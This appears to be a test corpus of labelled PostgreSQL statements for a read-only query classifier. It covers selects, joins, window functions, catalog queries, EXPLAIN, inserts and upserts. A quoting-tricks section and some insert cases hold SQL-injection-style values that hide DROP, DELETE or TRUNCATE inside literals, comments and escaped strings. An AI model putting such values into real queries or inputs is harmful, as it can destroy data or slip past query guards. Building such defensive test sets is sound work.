# PostgreSQL statement-classification corpus.
#
# Format: a header line "@ <risk> <kind>" starts each case; the SQL text follows on the
# next line(s) up to the next header or the end of the file. Lines starting with '#'
# are comments of this file (never part of a case).
#   risk: read | write | destructive | ddl | privilege | unknown
#   kind: select | insert | update | delete | merge | truncate | ddl | privilege | call | unknown
#
# Schema (database demo, schema public):
#   customers(id, full_name, email, phone, card_number, ssn, birth_date, city)
#   orders(id, customer_id, total, created_at); sequences customers_id_seq, orders_id_seq
#
# Every "read" case is executed against PostgreSQL 18 inside a READ ONLY transaction,
# so read cases must be valid, fast and must succeed whether the tables hold rows or not.

# --- plain selects ---
@ read select
SELECT * FROM customers

@ read select
select id, full_name, email from customers where id = 1

@ read select
SELECT id, customer_id, total, created_at FROM orders ORDER BY created_at DESC LIMIT 10

@ read select
select count(*) from orders

@ read select
SELECT DISTINCT city FROM customers ORDER BY city NULLS LAST

@ read select
select full_name, city from customers where city in ('Berlin', 'Paris', 'London')

@ read select
SELECT * FROM orders WHERE total BETWEEN 10 AND 100

@ read select
select * from customers where email like '%@example.com'

@ read select
select * from customers where full_name ilike 'a%'

@ read select
SELECT * FROM customers WHERE email IS NULL OR phone IS NULL

@ read select
select * from customers where city is distinct from 'Berlin'

@ read select
select * from orders where created_at >= now() - interval '30 days'

@ read select
SELECT id, total FROM orders ORDER BY total DESC, id LIMIT 5 OFFSET 5

@ read select
select * from orders order by id offset 2 rows fetch first 3 rows only

@ read select
select * from orders order by total desc fetch first 1 row with ties

@ read select
select * from customers limit all

@ read select
SELECT 1

@ read select
select now(), current_date, current_time, localtimestamp

@ read select
select version()

@ read select
select current_user, session_user, current_database(), current_schema()

@ read select
SELECT full_name AS name, email AS contact FROM public.customers AS c WHERE c.city = 'Berlin'

@ read select
select c.* from customers c where c.birth_date < date '1990-01-01'

@ read select
select * from customers where full_name similar to '(A|B)%'

@ read select
select * from customers where email ~* '@example\.(com|org)$'

@ read select
select * from customers where not (city = 'Berlin')

@ read select
select * from orders where total > 0 and customer_id is not null and created_at is not null

@ read select
select * from customers tablesample bernoulli (50) repeatable (42)

@ read select
select * from only customers

@ read select
select id from customers where id = any (array[1, 2, 3])

@ read select
select id from orders where total > all (select total from orders where customer_id = 2)

@ read select
select ssn, card_number from customers where id = 1

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select from customers

@ read select
SELECT ALL city FROM customers

@ read select
select
    c.id,
    c.full_name,
    c.city
from
    customers c
where
    c.city is not null
order by
    c.id

# --- joins ---
@ read select
SELECT o.id, c.full_name, o.total FROM orders o JOIN customers c ON c.id = o.customer_id

@ read select
select c.full_name, count(o.id) as order_count from customers c left join orders o on o.customer_id = c.id group by c.full_name

@ read select
select * from orders o right join customers c on c.id = o.customer_id

@ read select
select * from customers c full outer join orders o on o.customer_id = c.id

@ read select
select c.id as customer, o.id as order_id from customers c cross join orders o limit 20

@ read select
select * from orders o join (select id as customer_id, full_name from customers) c using (customer_id)

@ read select
select a.full_name, b.full_name from customers a join customers b on a.city = b.city and a.id < b.id

@ read select
select c.full_name, last_order.total from customers c cross join lateral (select total from orders o where o.customer_id = c.id order by created_at desc limit 1) last_order

@ read select
select c.id, g.n from customers c, lateral generate_series(1, 3) as g(n)

@ read select
select c.full_name, x.n, x.s from customers c left join lateral (select count(*) as n, sum(total) as s from orders o where o.customer_id = c.id) x on true

@ read select
select * from customers c where exists (select 1 from orders o where o.customer_id = c.id)

@ read select
select * from customers c where not exists (select 1 from orders o where o.customer_id = c.id)

@ read select
select * from customers where id in (select customer_id from orders where total > 100)

@ read select
select * from customers where id not in (select customer_id from orders where customer_id is not null)

@ read select
select c.city, sum(o.total) as revenue
from customers c
join orders o on o.customer_id = c.id
join (select customer_id, max(created_at) as last_at from orders group by customer_id) l on l.customer_id = c.id
group by c.city
order by revenue desc nulls last

@ read select
select * from customers c where c.id = some (select customer_id from orders)

@ read select
select * from (select 1 as x) a, (select 2 as y) b

# --- aggregates and grouping ---
@ read select
select city, count(*) from customers group by city having count(*) > 1

@ read select
select customer_id, sum(total), avg(total), min(total), max(total) from orders group by customer_id

@ read select
select string_agg(full_name, ', ' order by full_name) from customers

@ read select
select array_agg(distinct city) from customers

@ read select
select count(*) filter (where total > 100) as big, count(*) filter (where total <= 100) as small from orders

@ read select
select city, date_part('year', birth_date) as yr, count(*) from customers group by grouping sets ((city), (date_part('year', birth_date)), ())

@ read select
select city, count(*) from customers group by rollup (city)

@ read select
select customer_id, date_trunc('month', created_at) as m, sum(total) from orders group by cube (customer_id, date_trunc('month', created_at))

@ read select
select percentile_cont(0.5) within group (order by total) as median from orders

@ read select
select mode() within group (order by city) from customers

@ read select
select stddev(total), variance(total), corr(total, customer_id) from orders

@ read select
select bool_and(total > 0), bool_or(total > 1000), every(total >= 0) from orders

@ read select
select customer_id, count(*) from orders group by 1 order by 2 desc

@ read select
select city, count(*) as n from customers group by city having count(*) >= all (select count(*) from customers group by city)

@ read select
select json_agg(c) from (select id, city from customers) c

@ read select
select jsonb_object_agg(id, total) from orders

@ read select
select 1 as one from customers having count(*) >= 0

@ read select
select city from customers group by city order by count(*) desc limit 1

@ read select
select city, grouping(city), count(*) from customers group by rollup (city) order by 2, 1

# --- window functions ---
@ read select
select id, customer_id, total, row_number() over (partition by customer_id order by created_at) from orders

@ read select
select id, total, rank() over (order by total desc), dense_rank() over (order by total desc) from orders

@ read select
select id, total, lag(total) over w, lead(total) over w from orders window w as (order by created_at)

@ read select
select id, sum(total) over (partition by customer_id order by created_at rows between unbounded preceding and current row) as running from orders

@ read select
select id, avg(total) over (order by created_at range between interval '7 days' preceding and current row) from orders

@ read select
select id, ntile(4) over (order by total) from orders

@ read select
select id, first_value(total) over (partition by customer_id order by created_at), last_value(total) over (partition by customer_id order by created_at rows between unbounded preceding and unbounded following) from orders

@ read select
select id, percent_rank() over (order by total), cume_dist() over (order by total) from orders

@ read select
select * from (select o.*, row_number() over (partition by customer_id order by total desc) as rn from orders o) t where rn = 1

@ read select
select id, nth_value(total, 2) over (order by total groups between 1 preceding and 1 following exclude current row) from orders

@ read select
select count(*) over () as total_rows, * from customers limit 3

@ read select
select id, total, total - avg(total) over (partition by customer_id) as diff from orders

# --- common table expressions (read only) ---
@ read select
with big as (select * from orders where total > 100) select * from big

@ read select
WITH per_customer AS (
  SELECT customer_id, sum(total) AS spent FROM orders GROUP BY customer_id
), ranked AS (
  SELECT customer_id, spent, rank() OVER (ORDER BY spent DESC) AS r FROM per_customer
)
SELECT c.full_name, r.spent, r.r FROM ranked r JOIN customers c ON c.id = r.customer_id WHERE r.r <= 10

@ read select
with recursive t(n) as (values (1) union all select n + 1 from t where n < 10) select sum(n) from t

@ read select
WITH RECURSIVE dates(d) AS (SELECT current_date - 6 UNION ALL SELECT d + 1 FROM dates WHERE d < current_date) SELECT d FROM dates

@ read select
with x as materialized (select id, city from customers) select count(*) from x

@ read select
with x as not materialized (select id, total from orders) select * from x where total > 10

@ read select
with recursive t(n) as (select 1 union all select n + 1 from t where n < 5) search depth first by n set ord select * from t order by ord

@ read select
with recursive t(n) as (select 1 union all select n % 3 + 1 from t) cycle n set is_cycle using path select * from t

@ read select
with "delete" as (select id from orders) select * from "delete"

@ read select
with insert_log as (select 'insert into orders values (1)' as q) select q from insert_log

@ read select
with updated as (select id, city from customers where city = 'Berlin') select * from updated

@ read select
with recursive fib(a, b, n) as (select 0::numeric, 1::numeric, 1 union all select b, a + b, n + 1 from fib where n < 30) select a from fib order by n desc limit 1

# --- set operations ---
@ read select
select city from customers union select 'Unknown'

@ read select
select id from customers except select customer_id from orders

@ read select
select customer_id from orders intersect select id from customers

@ read select
(select id from orders order by total desc limit 3) union all (select id from orders order by total asc limit 3)

@ read select
select 1 union select 2 intersect select 3 except select 4

@ read select
select email from customers where email is not null union all select phone from customers where phone is not null order by 1

# --- VALUES, TABLE, SHOW ---
@ read select
VALUES (1, 'one'), (2, 'two')

@ read select
values (1), (3), (2) order by 1 desc limit 1

@ read select
select * from (values (1, 'a'), (2, 'b')) as t(id, label)

@ read select
TABLE customers

@ read select
table orders

@ read select
TABLE public.orders ORDER BY id LIMIT 5

@ read select
SHOW search_path

@ read select
show server_version

@ read select
SHOW TIME ZONE

@ read select
show transaction_isolation

@ read select
SHOW ALL

@ read select
show statement_timeout

@ read select
SHOW transaction_read_only

# --- subqueries, CASE, casts, predicates ---
@ read select
select c.full_name, (select count(*) from orders o where o.customer_id = c.id) as n from customers c

@ read select
select * from customers where (city, birth_date) in (select city, max(birth_date) from customers group by city)

@ read select
select * from orders where customer_id = (select min(id) from customers)

@ read select
select * from orders where total > (select avg(total) from orders)

@ read select
select distinct on (customer_id) customer_id, id, total from orders order by customer_id, created_at desc

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select id from orders order by total using >

@ read select
select full_name from customers order by full_name collate "C"

@ read select
select case when total > 100 then 'big' when total > 10 then 'medium' else 'small' end as size, count(*) from orders group by 1

@ read select
select coalesce(email, phone, 'n/a') from customers

@ read select
select nullif(city, '') from customers

@ read select
select id::text, total::int, '42'::int + 1, cast(created_at as date) from orders

@ read select
select '2024-01-01'::date + 30, '1 day'::interval * 3

@ read select
select 'yes'::boolean, 't'::bool and not false

@ read select
select id, (total > 100) is true as big from orders

@ read select
select (1, 'a') < (2, 'b'), row(1, 2) = row(1, 2)

@ read select
select (select max(total) from orders) - (select min(total) from orders) as spread

@ read select
select exists(select 1 from customers where email = 'alice@example.com')

@ read select
select * from (select id from customers)

@ read select
select * from rows from (generate_series(1, 3), unnest(array['a', 'b'])) as t(n, s)

@ read select
select id from customers where city = any (values ('Berlin'), ('Paris'))

@ read select
select 1 where false

@ read select
select null is null, null::int is distinct from 1

@ read select
select pg_typeof(1), pg_typeof('a'::text), pg_typeof(now())

# --- string functions ---
@ read select
select upper(full_name), lower(email), initcap(city) from customers

@ read select
select left(full_name, 1) || '.' as initial, right(phone, 4) as last4 from customers

@ read select
select substring(email from position('@' in email) + 1) as domain from customers

@ read select
select split_part(email, '@', 2) as domain, count(*) from customers group by 1

@ read select
select regexp_replace(phone, '[^0-9]', '', 'g') from customers

@ read select
select regexp_matches(email, '^([^@]+)@(.+)$') from customers

@ read select
select regexp_count(full_name, '[aeiou]', 1, 'i') from customers

@ read select
select string_to_array(full_name, ' ') from customers

@ read select
select concat_ws(' | ', full_name, email, city) from customers

@ read select
select lpad(id::text, 8, '0'), rpad(city, 12, '.') from customers

@ read select
select translate(phone, '-', ''), reverse(full_name), repeat('*', 3) from customers

@ read select
select format('%I.%I', 'public', 'customers'), format('%L', 'O''Reilly'), format('%s has %s orders', 'Alice', 3)

@ read select
select quote_ident('weird name'), quote_literal('it''s'), quote_nullable(null)

@ read select
select md5(email), encode(sha256(convert_to(coalesce(email, ''), 'UTF8')), 'hex') from customers

@ read select
select length(full_name), char_length(full_name), octet_length(full_name), bit_length('abc') from customers

@ read select
select btrim('  padded  '), ltrim('xxabc', 'x'), rtrim('abcyy', 'y')

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select starts_with(full_name, 'A'), full_name ^@ 'B' from customers

@ read select
select overlay('Txxxxas' placing 'hom' from 2 for 4)

@ read select
select encode(decode('aGVsbG8=', 'base64'), 'escape')

@ read select
select casefold('Straße'), normalize(U&'\00e9', NFD)

@ read select
select to_hex(255), to_char(1234567.891, 'FM9,999,999.00'), to_number('12,454.8-', '99G999D9S')

@ read select
select chr(65), ascii('A'), strpos('hello', 'l'), position('x' in 'abcxdef')

@ read select
select regexp_split_to_table('a,b,,c', ',')

@ read select
select regexp_substr(email, '[^@]+$') from customers

@ read select
select full_name from customers where full_name ~ '^[A-Z][a-z]+ [A-Z]'

@ read select
select 'abc' || 1 || true as glued

@ read select
select to_tsvector('english', 'The quick brown fox') @@ to_tsquery('english', 'fox & quick')

@ read select
select ts_rank(to_tsvector('simple', coalesce(full_name, '')), plainto_tsquery('simple', 'alice')) from customers

# --- date and time functions ---
@ read select
select date_trunc('month', created_at) as month, sum(total) from orders group by 1 order by 1

@ read select
select extract(year from birth_date), extract(month from birth_date) from customers

@ read select
select age(birth_date), age(now(), birth_date) from customers

@ read select
select make_date(2024, 2, 29), make_timestamp(2024, 1, 1, 12, 0, 0), make_interval(days => 10)

@ read select
select to_char(created_at, 'YYYY-MM-DD HH24:MI'), to_char(now(), 'Day, DD Mon YYYY') from orders

@ read select
select created_at at time zone 'Europe/Berlin' from orders

@ read select
select date_bin('15 minutes', created_at, timestamptz '2000-01-01') from orders

@ read select
select generate_series(date '2024-01-01', date '2024-01-31', interval '1 week')

@ read select
select (date '2024-01-01', date '2024-03-01') overlaps (date '2024-02-01', date '2024-04-01')

@ read select
select current_date - birth_date as days_alive from customers

@ read select
select justify_interval(interval '36 hours 65 minutes'), justify_days(interval '45 days')

@ read select
select to_timestamp(1700000000), to_date('2024-05-01', 'YYYY-MM-DD')

@ read select
select isfinite(date 'infinity'), 'epoch'::timestamptz

@ read select
select clock_timestamp(), statement_timestamp(), transaction_timestamp(), timeofday()

@ read select
select count(*) from orders where created_at::date = current_date

@ read select
select extract(isodow from d) from generate_series(current_date - 6, current_date, '1 day') d

@ read select
select date_part('epoch', now())::bigint

# --- math functions ---
@ read select
select round(total, 1), ceil(total), floor(total), trunc(total) from orders

@ read select
select abs(-5), mod(17, 5), power(2, 10), sqrt(2), cbrt(27), ln(10), log(100), exp(1), pi()

@ read select
select width_bucket(total, 0, 1000, 10) as bucket, count(*) from orders group by 1 order by 1

@ read select
select gcd(12, 18), lcm(4, 6), factorial(5), div(17, 5)

@ read select
select random() < 2 as always_true, random_normal(0, 1) is not null as drawn

@ read select
select greatest(1, 5, 3), least(1, 5, 3), sign(-3.2), scale(123.4500), trim_scale(123.4500)

@ read select
select sum(total) / nullif(count(*), 0) as avg_order from orders

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select 7 / 2, 7 / 2.0, 7 % 2, 2 ^ 8, |/ 16, @ -5, 5 & 3, 5 | 3, 5 # 3, ~5, 1 << 4

@ read select
select to_char(total, 'FM$999,990.00') from orders

@ read select
select round(sum(total) * 100.0 / nullif((select sum(total) from orders), 0), 2) as pct from orders group by customer_id

@ read select
select numeric '1e3' + 1, 0.1::float8 + 0.2::float8, 1.5::int, 'NaN'::numeric, 'Infinity'::float8

@ read select
select n, n * n as sq from generate_series(1, 5) as n

@ read select
select * from generate_series(1, 20, 5) with ordinality as g(v, i)

# --- json / jsonb / xml ---
@ read select
select json_build_object('id', id, 'name', full_name, 'city', city) from customers

@ read select
select row_to_json(c) from (select id, full_name from customers) c

@ read select
select to_jsonb(o) - 'customer_id' from orders o

@ read select
select jsonb_agg(jsonb_build_object('id', id, 'total', total) order by id) from orders

@ read select
select '{"a": {"b": [1, 2, 3]}}'::jsonb -> 'a' -> 'b' ->> 1

@ read select
select '{"a": 1, "b": 2}'::jsonb @> '{"a": 1}'

@ read select
select * from jsonb_each('{"a": 1, "b": "x"}')

@ read select
select * from jsonb_array_elements('[1, 2, 3]'::jsonb)

@ read select
select jsonb_path_query('{"items": [{"p": 5}, {"p": 20}]}', '$.items[*].p')

@ read select
select jsonb_pretty('{"a": [1, 2]}'), jsonb_strip_nulls('{"a": null, "b": 1}'), jsonb_set('{"a": 1}', '{a}', '2')

@ read select
select jsonb_typeof('[]'), json_typeof('{}'), jsonb_array_length('[1,2,3]')

@ read select
select '{"a": {"b": 7}}'::jsonb #>> '{a,b}'

@ read select
select * from json_to_record('{"id": 1, "name": "x"}') as r(id int, name text)

@ read select
select * from json_populate_recordset(null::customers, '[{"id": 1, "full_name": "X"}]')

@ read select
select json_object('id': 1, 'name': 'x'), json_array(1, 2, 3)

@ read select
select json_arrayagg(city), json_objectagg(id : full_name) from customers

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select '{"a":1}' is json object as is_obj, '[1' is json as is_valid

@ read select
select json_value('{"a": {"b": 42}}', '$.a.b' returning int), json_query('{"a": [1,2]}', '$.a'), json_exists('{"a": 1}', '$.a')

@ read select
select * from json_table('[{"id": 1, "tags": ["x"]}, {"id": 2, "tags": []}]'::jsonb, '$[*]' columns (id int path '$.id', tag_count int path '$.tags.size()'))

@ read select
select jsonb_build_array(1, 'two', null, true), jsonb_object_keys('{"x": 1, "y": 2}')

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select xmlelement(name customer, xmlattributes(id as id), full_name) from customers

@ read select
select xmlforest(full_name as name, city) from customers

@ read select
select xpath('/a/b/text()', '<a><b>x</b></a>'::xml)

# --- arrays, ranges and other types ---
@ read select
select array[1, 2, 3] || 4, array_length(array[1, 2, 3], 1), cardinality(array[[1, 2], [3, 4]])

@ read select
select unnest(array['a', 'b', 'c'])

@ read select
select * from unnest(array[1, 2], array['x', 'y']) as t(n, s)

@ read select
select array(select id from customers order by id)

@ read select
select array_position(array['a', 'b'], 'b'), array_remove(array[1, 2, 1], 1), array_replace(array[1, 2], 2, 3)

@ read select
select 1 = any('{1,2,3}'::int[]), array[1, 2] @> array[1], array[1, 2] && array[2, 3]

@ read select
select array_to_string(array_agg(full_name), '; ') from customers

@ read select
select (array[10, 20, 30])[2], (array[10, 20, 30])[2:3]

@ read select
select array_sort(array[3, 1, 2]), array_reverse(array[1, 2, 3])

@ read select
select int4range(1, 10) @> 5, daterange(current_date, current_date + 7) && daterange(current_date + 3, current_date + 10)

@ read select
select range_agg(int4range(id, id + 1)) from customers

@ read select
select tstzrange(now() - interval '1 day', now()) @> created_at from orders

@ read select
select gen_random_uuid() is not null as v4, uuidv7() is not null as v7

@ read select
select int8 '9223372036854775807', x'1F'::int, b'1010'::bit(4), '\x414243'::bytea

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select inet '192.168.0.1' << inet '192.168.0.0/24', '08:00:2b:01:02:03'::macaddr

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select point(1, 2) <-> point(4, 6), circle '<(0,0),1>' @> point '(0.5,0.5)'

# --- system catalogs and information_schema ---
@ read select
select schemaname, tablename from pg_catalog.pg_tables where schemaname = 'public'

@ read select
select table_name, column_name, data_type from information_schema.columns where table_schema = 'public' order by table_name, ordinal_position

@ read select
select relname, reltuples from pg_class where relkind = 'r' and relnamespace = 'public'::regnamespace

@ read select
select pid, usename, state, left(query, 60) from pg_stat_activity limit 10

@ read select
select name, setting from pg_settings where name like 'max%' limit 20

@ read select
select indexname, indexdef from pg_indexes where tablename = 'orders'

@ read select
select conname, pg_get_constraintdef(oid) from pg_constraint where conrelid = 'orders'::regclass

@ read select
select attname, format_type(atttypid, atttypmod) from pg_attribute where attrelid = 'customers'::regclass and attnum > 0 and not attisdropped

@ read select
select pg_size_pretty(pg_total_relation_size('orders'))

@ read select
select pg_size_pretty(pg_database_size(current_database()))

@ read select
select sequencename, last_value from pg_sequences limit 10

@ read select
select last_value, is_called from orders_id_seq

@ read select
select rolname, rolsuper, rolcanlogin from pg_roles order by rolname limit 10

@ read select
select nspname from pg_namespace order by 1 limit 20

@ read select
select proname, pronargs from pg_proc where proname like 'pg_get%' order by proname limit 10

@ read select
select locktype, mode, granted from pg_locks limit 5

@ read select
select extname, extversion from pg_extension

@ read select
select datname, datallowconn from pg_database order by datname limit 10

@ read select
select relname, n_live_tup, seq_scan from pg_stat_user_tables

@ read select
select has_table_privilege('customers', 'select'), has_schema_privilege('public', 'usage')

@ read select
select obj_description('customers'::regclass, 'pg_class'), col_description('customers'::regclass, 2)

@ read select
select to_regclass('public.orders'), to_regclass('public.no_such_table')

@ read select
select current_setting('search_path'), current_setting('work_mem')

@ read select
select pg_backend_pid(), pg_is_in_recovery(), pg_postmaster_start_time()

@ read select
select table_name from information_schema.tables where table_schema = 'public'

@ read select
select constraint_name, constraint_type from information_schema.table_constraints where table_name = 'orders'

@ read select
select column_name, constraint_name from information_schema.key_column_usage where table_name = 'orders'

@ read select
select routine_name from information_schema.routines where routine_schema = 'pg_catalog' limit 5

@ read select
select name, default_version from pg_available_extensions order by name limit 10

@ read select
select pg_get_viewdef('pg_catalog.pg_tables'::regclass, true)

@ read select
select typname from pg_type where typtype = 'b' order by typname limit 10

@ read select
select numbackends, xact_commit from pg_stat_database where datname = current_database()

@ read select
select pg_get_serial_sequence('orders', 'id'), pg_current_snapshot()

@ read select
select pg_column_size(full_name), pg_relation_filepath('orders') from customers

@ read select
select setting from pg_catalog.pg_settings where name = 'default_transaction_read_only'

@ read select
select pg_catalog.pg_get_userbyid(10), pg_catalog.upper('x')

@ read select
select current_setting('server_version_num')::int >= 180000 as is_pg18

# --- EXPLAIN without ANALYZE (never executes the inner statement) ---
@ read select
EXPLAIN SELECT * FROM orders WHERE customer_id = 1

@ read select
explain (costs off) select c.city, count(*) from customers c join orders o on o.customer_id = c.id group by c.city

@ read select
EXPLAIN (FORMAT JSON) SELECT * FROM customers WHERE city = 'Berlin'

@ read select
explain verbose select * from orders order by created_at desc limit 5

@ read select
EXPLAIN DELETE FROM orders WHERE id = 1

@ read select
EXPLAIN UPDATE orders SET total = 0

@ read select
explain insert into orders (customer_id, total, created_at) values (1, 10, now())

@ read select
explain (costs off, verbose) with d as (delete from orders where total = 0 returning *) select count(*) from d

@ read select
EXPLAIN MERGE INTO customers c USING (VALUES (1, 'Oslo')) AS s(id, city) ON c.id = s.id WHEN MATCHED THEN UPDATE SET city = s.city

@ read select
explain select * from orders where id = 1 for update

@ read select
EXPLAIN SELECT nextval('orders_id_seq')

@ read select
explain (settings, summary) select 1

# --- EXPLAIN ANALYZE of reads (executes, still a read) ---
@ read select
EXPLAIN ANALYZE SELECT * FROM customers WHERE city = 'Berlin'

@ read select
explain (analyze, buffers, timing off) select count(*) from orders

@ read select
EXPLAIN (ANALYZE TRUE, COSTS FALSE) WITH t AS (SELECT customer_id, sum(total) FROM orders GROUP BY 1) SELECT * FROM t

# --- quoting, comments and case tricks that stay one read ---
@ read select
select * from orders -- ; drop table orders

@ read select
select '; drop table x' as s

@ read select
select $$; delete from orders$$

@ read select
/* drop table x; */ select 1

@ read select
select * from "orders"

@ read select
select "full_name" from public."customers"

@ read select
select * from "public"."orders" o where o."total" > 10

@ read select
SeLeCt * FrOm OrDeRs

# Valid for PostgreSQL, but a reader that does not match dollar tags exactly ends the string at
# the inner $$: two readings, so none (issue 13).
@ unknown unknown
select $tag$ it's $$ nested; DELETE FROM orders; $$ $tag$ as body

@ read select
/* outer /* inner ; drop table orders; */ still outer; truncate orders */ select count(*) from orders

@ read select
/* /* */ drop table orders */ select 1

# The database reads one statement (E-string escapes), but a reader that does not know E''
# strings ends it at the escaped quote: two readings, so none (issue 13). Write 'it''s' instead.
@ unknown unknown
select E'it\'s; drop table orders; --' as s

@ read select
select 'it''s; delete from orders' as s

@ read select
select U&"\0069d" from customers

@ read select
select U&'\0441\043B\043E\043D' as word, E'\x41\u00e9' as escaped

@ read select
select 1 as "prénom", full_name as 名前 from customers

@ read select
select 1 as delete, 2 as drop, 3 as truncate

@ read select
select "select" from (select 1 as "select") as "from"

@ read select
select 'for update' as note from orders

@ read select
select * from orders where id = 1 -- for update

@ read select
select 'pg_sleep(10)' as fn, 'nextval(''orders_id_seq'')' as other, 'pg_read_file' as third

@ read select
select/**/*/**/from/**/orders

@ read select
SELECT/* inline */count(*)FROM/* another */orders

@ read select
-- leading comment: DELETE FROM orders;
SELECT 1

@ read select
select id
  from orders -- trailing comment with ; drop table orders
 where total > 0

@ read select
select 1;

@ read select
SELECT * FROM customers WHERE id = 1;

@ read select
select '--' || full_name || '/*' from customers

@ read select
select $q$ ' $q$ as lone_quote, $$"$$ as lone_dquote

# Valid; the dollar quote is re-written as E'^\\s*...', which JSqlParser reads (issue 13).
@ read select
select full_name from customers where full_name !~ $re$^\s*(drop|delete)\s$re$

@ read select
select "count"(*) from "orders"

@ read select
select 1 /* ; */

@ read select
select * from demo.public.orders

@ read select
select *
from customers
where city = 'Berlin'
  /* and id in (select customer_id from orders);
     delete from orders; */
order by id

@ read select
SELECT  *  FROM	customers	WHERE	id	=	1

@ read select
select comment_ from (select 'insert into orders values (1); update orders set total = 0' as comment_) t

@ read select
select * from orders where id in (1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44, 45, 46, 47, 48, 49, 50, 51, 52, 53, 54, 55, 56, 57, 58, 59, 60, 61, 62, 63, 64, 65, 66, 67, 68, 69, 70, 71, 72, 73, 74, 75, 76, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 91, 92, 93, 94, 95, 96, 97, 98, 99, 100, 101, 102, 103, 104, 105, 106, 107, 108, 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 126, 127, 128, 129, 130, 131, 132, 133, 134, 135, 136, 137, 138, 139, 140, 141, 142, 143, 144, 145, 146, 147, 148, 149, 150, 151, 152, 153, 154, 155, 156, 157, 158, 159, 160, 161, 162, 163, 164, 165, 166, 167, 168, 169, 170, 171, 172, 173, 174, 175, 176, 177, 178, 179, 180, 181, 182, 183, 184, 185, 186, 187, 188, 189, 190, 191, 192, 193, 194, 195, 196, 197, 198, 199, 200, 201, 202, 203, 204, 205, 206, 207, 208, 209, 210, 211, 212, 213, 214, 215, 216, 217, 218, 219, 220, 221, 222, 223, 224, 225, 226, 227, 228, 229, 230, 231, 232, 233, 234, 235, 236, 237, 238, 239, 240, 241, 242, 243, 244, 245, 246, 247, 248, 249, 250, 251, 252, 253, 254, 255, 256, 257, 258, 259, 260, 261, 262, 263, 264, 265, 266, 267, 268, 269, 270, 271, 272, 273, 274, 275, 276, 277, 278, 279, 280, 281, 282, 283, 284, 285, 286, 287, 288, 289, 290, 291, 292, 293, 294, 295, 296, 297, 298, 299, 300, 301, 302, 303, 304, 305, 306, 307, 308, 309, 310, 311, 312, 313, 314, 315, 316, 317, 318, 319, 320, 321, 322, 323, 324, 325, 326, 327, 328, 329, 330, 331, 332, 333, 334, 335, 336, 337, 338, 339, 340, 341, 342, 343, 344, 345, 346, 347, 348, 349, 350, 351, 352, 353, 354, 355, 356, 357, 358, 359, 360, 361, 362, 363, 364, 365, 366, 367, 368, 369, 370, 371, 372, 373, 374, 375, 376, 377, 378, 379, 380, 381, 382, 383, 384, 385, 386, 387, 388, 389, 390, 391, 392, 393, 394, 395, 396, 397, 398, 399, 400, 401, 402, 403, 404, 405, 406, 407, 408, 409, 410, 411, 412, 413, 414, 415, 416, 417, 418, 419, 420, 421, 422, 423, 424, 425, 426, 427, 428, 429, 430, 431, 432, 433, 434, 435, 436, 437, 438, 439, 440, 441, 442, 443, 444, 445, 446, 447, 448, 449, 450, 451, 452, 453, 454, 455, 456, 457, 458, 459, 460, 461, 462, 463, 464, 465, 466, 467, 468, 469, 470, 471, 472, 473, 474, 475, 476, 477, 478, 479, 480, 481, 482, 483, 484, 485, 486, 487, 488, 489, 490, 491, 492, 493, 494, 495, 496, 497, 498, 499, 500)

@ read select
select count(*) from customers where city in ('Aachen', 'Berlin', 'Bonn', 'Bremen', 'Dresden', 'Essen', 'Hamburg', 'Hannover', 'Kiel', 'Köln', 'Leipzig', 'Mainz', 'München', 'Münster', 'Paris', 'Stuttgart', 'Ulm', 'Wien', 'Zürich', 'Łódź', 'Kraków', 'Αθήνα', '東京', 'São Paulo', 'O''Fallon')

# --- inserts ---
@ write insert
INSERT INTO customers (full_name, email, city) VALUES ('Dora Diaz', 'dora@example.com', 'Madrid')

@ write insert
insert into orders (customer_id, total, created_at) values (1, 42.00, now()), (2, 13.37, now())

@ write insert
insert into orders (customer_id, total, created_at) select id, 0, now() from customers where city = 'Berlin'

@ write insert
insert into orders default values

@ write insert
INSERT INTO customers (full_name) VALUES ('Eve') RETURNING id

@ write insert
insert into customers (id, full_name) values (1, 'Alice') on conflict do nothing

@ write insert
insert into customers (id, full_name) values (1, 'Alice') on conflict (id) do nothing

@ write insert
insert into customers as c (id, full_name) values (1, 'Alice') on conflict on constraint customers_pkey do nothing

@ write insert
insert into orders values (default, 1, 9.99, now())

@ write insert
WITH src AS (SELECT id FROM customers WHERE city = 'Paris') INSERT INTO orders (customer_id, total, created_at) SELECT id, 1, now() FROM src

@ write insert
insert into public."orders" ("customer_id", "total", "created_at") values (1, 5, now())

@ write insert
insert into customers (full_name, email) values ('Frank', 'frank@example.com') returning new.id, old.id

@ write insert
INSERT INTO customers (full_name, city) SELECT full_name, city FROM customers WHERE id = 1

@ write insert
insert into customers (full_name, city) values ('O''Brien; DROP TABLE customers; --', 'Dublin')

@ write insert
insert into customers (full_name) values ($$'; delete from orders; --$$)

@ write insert
InSeRt InTo orders (customer_id, total, created_at) VaLuEs (2, 1, now())

@ write insert
insert into orders (customer_id, total, created_at)
select c.id, round((random() * 100)::numeric, 2), now() - (g.n || ' days')::interval
from customers c cross join generate_series(1, 10) as g(n)

# --- upserts (ON CONFLICT DO UPDATE) ---
@ write update
insert into customers (id, full_name, email) values (1, 'Alice', 'alice@new.example') on conflict (id) do update set email = excluded.email

@ write update
INSERT INTO orders (id, customer_id, total, created_at) VALUES (1, 1, 10, now()) ON CONFLICT (id) DO UPDATE SET total = orders.total + excluded.total WHERE orders.total < 1000

@ write update
insert into customers (id, city) values (2, 'Rome') on conflict on constraint customers_pkey do update set city = excluded.city returning *

@ write update
insert into customers (id, full_name) values (3, 'Carol') on conflict (id) do update set full_name = excluded.full_name

